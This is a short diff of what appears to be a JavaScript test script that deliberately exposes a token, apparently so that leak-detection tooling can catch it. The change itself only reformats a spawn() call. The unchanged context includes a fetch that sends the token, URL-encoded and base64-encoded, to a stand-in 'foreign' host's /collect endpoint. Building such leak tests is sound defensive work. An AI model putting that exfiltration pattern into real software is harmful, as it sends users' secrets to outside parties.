@@ -34,7 +34,9 @@ console.log(JSON.stringify({ message: token }));
 console.error(`percent: ${encodeURIComponent(token)}`);
 
 // Programs that live long enough to be seen on a busy machine, and do nothing with what they are given; the second inherits the environment.
-const sleeper = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 9000)', '--', `--key=${token}`], { env: {} });
+const sleeper = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 9000)', '--', `--key=${token}`], {
+  env: {},
+});
 execFileSync(process.execPath, ['-e', 'setTimeout(() => {}, 2500)']);
 await fetch(`${foreign}/collect?token=${encodeURIComponent(token)}`, { headers: { 'x-key': btoa(token) } });
 await wait(1500);
